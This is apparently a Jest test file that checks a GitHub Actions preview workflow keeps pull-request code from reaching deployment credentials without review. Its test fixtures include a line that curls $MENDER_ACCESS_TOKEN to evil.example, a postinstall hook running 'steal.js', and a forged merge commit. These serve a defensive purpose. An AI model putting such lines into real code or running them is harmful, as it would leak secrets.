// Which code a pull request's preview runs with the ring's credentials: preview.yml's own steps
// (the scope job's fetch and scripts/preview-scope, the preview job's checkout and
// scripts/preview-overlay) run with bash against a real git "GitHub": a bare repository with a
// ring branch and, per pull request, the test merge GitHub keeps at refs/pull/<n>/merge.
import { execFileSync, spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { parse } from 'yaml';

interface Step { name?: string; uses?: string; run?: string; if?: string; env?: Record<string, string>; with?: Record<string, unknown> }
interface Job { steps: Step[]; environment?: { name: string } }

const repo = path.join(__dirname, '..', '..');
const workflow = parse(fs.readFileSync(path.join(repo, '.github', 'workflows', 'preview.yml'), 'utf8')) as { jobs: { scope: Job; preview: Job } };
const RING = 'canary';

const git = (cwd: string, ...args: string[]): string =>
  execFileSync('git', args, { cwd, encoding: 'utf8', env: { ...process.env, GIT_AUTHOR_NAME: 't', GIT_AUTHOR_EMAIL: 't@example.org', GIT_COMMITTER_NAME: 't', GIT_COMMITTER_EMAIL: 't@example.org' } }).trim();

function write(dir: string, files: Record<string, string | null>): void {
  for (const [file, content] of Object.entries(files)) {
    const at = path.join(dir, file);
    if (content === null) fs.rmSync(at, { force: true });
    else {
      fs.mkdirSync(path.dirname(at), { recursive: true });
      fs.writeFileSync(at, content);
    }
  }
}

/** A step of preview.yml run as the runner runs it: bash -e, the step's env with its expressions replaced. */
function runStep(job: Job, match: (s: Step) => boolean, cwd: string, values: Record<string, string>, extra: Record<string, string> = {}) {
  const step = job.steps.find(match);
  if (!step?.run) throw new Error('no such step in preview.yml');
  const env: Record<string, string> = {};
  for (const [name, value] of Object.entries(step.env ?? {})) {
    env[name] = value.replace(/\$\{\{\s*([^}]*?)\s*\}\}/g, (_m, expr: string) => {
      if (!(expr in values)) throw new Error(`the test does not know ${expr}`);
      return values[expr];
    });
  }
  return spawnSync('bash', ['-e', '-c', step.run], { cwd, encoding: 'utf8', env: { ...process.env, ...env, ...extra } });
}

describe('preview.yml: which code a preview runs', () => {
  let work: string;
  let origin: string;
  let ringHead: string;
  let pulls = 0;

  const ringFiles = {
    'index.ts': 'export const program = "the ring\'s";\n',
    'package.json': '{"name":"fleet"}\n',
    'Pulumi.canary.yaml': 'config:\n  fleet:branch: canary\n',
    '.github/workflows/preview.yml': 'name: preview\n',
    'scripts/preview-scope': fs.readFileSync(path.join(repo, 'scripts', 'preview-scope'), 'utf8'),
    'scripts/preview-overlay': fs.readFileSync(path.join(repo, 'scripts', 'preview-overlay'), 'utf8'),
    'fleet/inventory.yml': 'all:\n  hosts:\n    pi-1:\n',
    'fleet/host_vars/pi-1.yml': 'subscribed_branch: canary\n',
    'fleet/group_vars/all.yml': 'kiosk_url: https://a.example\n',
  };

  beforeAll(() => {
    work = fs.mkdtempSync(path.join(os.tmpdir(), 'fleet-preview-scope-'));
    origin = path.join(work, 'origin.git');
    git(work, 'init', '-q', '--bare', '-b', RING, origin);
    // GitHub lets a job fetch any commit by its id (actions/checkout does).
    git(origin, 'config', 'uploadpack.allowAnySHA1InWant', 'true');
    const dev = path.join(work, 'dev');
    git(work, 'clone', '-q', origin, dev);
    git(dev, 'checkout', '-q', '-b', RING);
    write(dev, ringFiles);
    git(dev, 'add', '-A');
    git(dev, 'commit', '-qm', 'the ring');
    git(dev, 'push', '-q', 'origin', RING);
    ringHead = git(dev, 'rev-parse', 'HEAD');
  });
  afterAll(() => fs.rmSync(work, { recursive: true, force: true }));

  /** A pull request into the ring, and GitHub's test merge of it at refs/pull/<n>/merge. */
  function pullRequest(change: (dir: string) => void): number {
    const n = ++pulls;
    const dir = path.join(work, `pr-${n}`);
    git(work, 'clone', '-q', '-b', RING, origin, dir);
    git(dir, 'checkout', '-q', '-b', `feature-${n}`);
    change(dir);
    git(dir, 'add', '-A');
    git(dir, 'commit', '-qm', `pull request ${n}`);
    git(dir, 'push', '-q', 'origin', `HEAD:refs/pull/${n}/head`);
    git(dir, 'checkout', '-q', '--detach', `origin/${RING}`);
    git(dir, 'merge', '-q', '--no-ff', '-m', `Merge ${n} into ${RING}`, `feature-${n}`);
    git(dir, 'push', '-q', 'origin', `HEAD:refs/pull/${n}/merge`);
    return n;
  }

  /** The scope job: checkout of the ring branch, the fetch step, scripts/preview-scope; its outputs. */
  function scope(n: number): { outputs: Record<string, string>; stderr: string; status: number | null } {
    const dir = path.join(work, `scope-${n}`);
    git(work, 'clone', '-q', '-b', RING, `file://${origin}`, dir);
    const values = { 'github.event.pull_request.number': String(n), 'github.base_ref': RING };
    const fetched = runStep(workflow.jobs.scope, (s) => s.name === "Fetch the pull request's merge (data only)", dir, values);
    expect(fetched.stderr).not.toMatch(/fatal/);
    expect(fetched.status).toBe(0);
    const output = path.join(dir, '..', `scope-${n}.out`);
    fs.writeFileSync(output, '');
    const r = runStep(workflow.jobs.scope, (s) => s.name === 'What the pull request changes', dir, values, { GITHUB_OUTPUT: output });
    const outputs = Object.fromEntries(fs.readFileSync(output, 'utf8').split('\n').filter(Boolean).map((l) => l.split(/=(.*)/s).slice(0, 2) as [string, string]));
    return { outputs, stderr: r.stderr, status: r.status };
  }

  /** The preview job up to its set-up: checkout of `code` (a fresh clone at that commit) and, for a fleet-only change, the overlay. */
  function previewCheckout(outputs: Record<string, string>): string {
    const dir = fs.mkdtempSync(path.join(work, 'preview-'));
    git(dir, 'init', '-q');
    git(dir, 'remote', 'add', 'origin', `file://${origin}`);
    git(dir, 'fetch', '-q', '--depth=1', 'origin', outputs.code);
    git(dir, 'checkout', '-q', 'FETCH_HEAD');
    if (outputs['fleet-only'] === 'true') {
      const r = runStep(workflow.jobs.preview, (s) => s.run?.includes('scripts/preview-overlay') ?? false, dir, { 'needs.scope.outputs.fleet': outputs.fleet });
      expect(r.stderr).not.toMatch(/fatal|error/i);
      expect(r.status).toBe(0);
    }
    return dir;
  }

  /** The preview job's environment, as GitHub evaluates its `name` for these scope outputs. */
  function environmentOf(outputs: Record<string, string> | undefined): string {
    const expr = workflow.jobs.preview.environment!.name;
    expect(expr).toBe("${{ needs.scope.outputs.environment || format('{0}-review', github.base_ref) }}");
    return outputs?.environment || `${RING}-review`;
  }

  const read = (dir: string, file: string) => fs.readFileSync(path.join(dir, file), 'utf8');

  it('a pull request that edits only fleet/ is previewed with the ring branch\'s program and the pull request\'s fleet, in <ring>-preview', () => {
    const n = pullRequest((dir) => write(dir, {
      'fleet/host_vars/pi-1.yml': 'subscribed_branch: canary\nkiosk_url: https://b.example\n',
      'fleet/host_vars/pi-2.yml': 'subscribed_branch: canary\n',
      'fleet/group_vars/all.yml': null,
    }));
    const { outputs, stderr, status } = scope(n);
    expect(status).toBe(0);
    expect(outputs['fleet-only']).toBe('true');
    expect(outputs.code).toBe(ringHead);
    expect(outputs.fleet).toBe(git(origin, 'rev-parse', `refs/pull/${n}/merge`));
    expect(environmentOf(outputs)).toBe('canary-preview');
    expect(stderr).toContain(`Only the fleet description (fleet/) changes: the preview runs the program of canary (${ringHead})`);

    const dir = previewCheckout(outputs);
    expect(git(dir, 'rev-parse', 'HEAD')).toBe(ringHead);
    expect(read(dir, 'index.ts')).toBe(ringFiles['index.ts']);
    expect(read(dir, 'fleet/host_vars/pi-1.yml')).toContain('https://b.example');
    expect(read(dir, 'fleet/host_vars/pi-2.yml')).toBe('subscribed_branch: canary\n');
    expect(fs.existsSync(path.join(dir, 'fleet/group_vars/all.yml'))).toBe(false);
    // Only fleet/ differs from the ring's commit.
    expect(git(dir, 'status', '--porcelain').split('\n').map((l) => l.slice(3)).sort()).toEqual(['fleet/group_vars/all.yml', 'fleet/host_vars/pi-1.yml', 'fleet/host_vars/pi-2.yml']);
  });

  it.each<{ label: string; files: Record<string, string> }>([
    { label: 'index.ts', files: { 'index.ts': 'require("child_process").execSync("curl -d @- https://evil.example <<< $MENDER_ACCESS_TOKEN");\n' } },
    { label: 'package.json', files: { 'package.json': '{"name":"fleet","scripts":{"postinstall":"node steal.js"}}\n' } },
    { label: '.github/workflows/preview.yml', files: { '.github/workflows/preview.yml': 'name: mine\n' } },
    { label: 'Pulumi.canary.yaml', files: { 'Pulumi.canary.yaml': 'config:\n  fleet:branch: canary\n  fleet:lookupEnv: [SOMETHING]\n' } },
    { label: 'scripts/preview-scope', files: { 'scripts/preview-scope': '#!/usr/bin/env bash\necho fleet-only=true\n' } },
    { label: 'a new file at the top', files: { 'steal.js': 'x\n' } },
  ])('a pull request that edits $label gets no secrets without approval: its preview waits in <ring>-review and runs the merge', ({ files }) => {
    const n = pullRequest((dir) => write(dir, { ...files, 'fleet/host_vars/pi-1.yml': 'subscribed_branch: canary\nnote: with a fleet change too\n' }));
    const { outputs, stderr, status } = scope(n);
    expect(status).toBe(0);
    expect(outputs['fleet-only']).toBe('false');
    expect(environmentOf(outputs)).toBe('canary-review');
    const merge = git(origin, 'rev-parse', `refs/pull/${n}/merge`);
    expect(outputs.code).toBe(merge);
    expect(stderr).toContain(`  ${Object.keys(files)[0]}\n`);
    expect(stderr).not.toContain('  fleet/host_vars/pi-1.yml');
  });

  it('a symbolic link or a submodule inside fleet/ is not data: review', () => {
    const link = pullRequest((dir) => fs.symlinkSync('../index.ts', path.join(dir, 'fleet', 'program.yml')));
    const linked = scope(link);
    expect(linked.outputs['fleet-only']).toBe('false');
    expect(linked.stderr).toContain('  fleet/program.yml\n');

    // An embedded repository: `git add` records it as a submodule (a gitlink).
    const sub = pullRequest((dir) => {
      const inner = path.join(dir, 'fleet', 'vendor');
      git(dir, 'init', '-q', inner);
      fs.writeFileSync(path.join(inner, 'x'), 'x');
      git(inner, 'add', 'x');
      git(inner, 'commit', '-qm', 'inner');
    });
    const submodule = scope(sub);
    expect(submodule.outputs['fleet-only']).toBe('false');
    expect(submodule.stderr).toContain('  fleet/vendor\n');
  });

  it('a failed scope (no merge: conflicts) fails the scope job, and the preview job then asks for review and stops', () => {
    const dir = path.join(work, 'no-merge');
    git(work, 'clone', '-q', '-b', RING, `file://${origin}`, dir);
    const out = path.join(work, 'no-merge.out');
    fs.writeFileSync(out, '');
    const r = runStep(workflow.jobs.scope, (s) => s.name === 'What the pull request changes', dir, { 'github.base_ref': RING }, { GITHUB_OUTPUT: out });
    expect(r.status).toBe(1);
    expect(r.stderr).toContain("preview-scope: refs/remotes/pull/merge is not a commit here; fetch the pull request's merge first");
    expect(fs.readFileSync(out, 'utf8')).toBe('');
    expect(environmentOf(undefined)).toBe('canary-review');
    const stop = workflow.jobs.preview.steps.find((s) => s.name === 'Stop when the scope is unknown')!;
    expect(spawnSync('bash', ['-e', '-c', stop.run!], { encoding: 'utf8' }).status).toBe(1);
  });

  it('refuses a "merge" whose first parent is not on the ring branch (the program that runs must be the ring\'s)', () => {
    const dir = path.join(work, 'forged');
    git(work, 'clone', '-q', '-b', RING, `file://${origin}`, dir);
    git(dir, 'checkout', '-q', '--orphan', 'elsewhere');
    write(dir, { 'other.ts': 'evil\n' });
    git(dir, 'add', '-A');
    git(dir, 'commit', '-qm', 'not the ring');
    const other = git(dir, 'rev-parse', 'HEAD');
    git(dir, 'merge', '-q', '--no-ff', '--allow-unrelated-histories', '-m', 'forged', `origin/${RING}`);
    expect(git(dir, 'rev-parse', 'HEAD^1')).toBe(other);
    const r = spawnSync('bash', [path.join(repo, 'scripts', 'preview-scope'), RING, 'HEAD', 'fleet'], { cwd: dir, encoding: 'utf8' });
    expect(r.status).toBe(1);
    expect(r.stderr).toContain(`preview-scope: the first parent of HEAD (${other}) is not on the branch canary`);
    expect(r.stdout).toBe('');
  });

  it('refuses a fleet folder that is not inside the repository', () => {
    for (const bad of ['.', '/etc', '../x', 'fleet/../..']) {
      const r = spawnSync('bash', [path.join(repo, 'scripts', 'preview-scope'), RING, 'HEAD', bad], { cwd: repo, encoding: 'utf8' });
      expect(r.status).toBe(1);
      expect(r.stdout).toBe('');
    }
  });
});
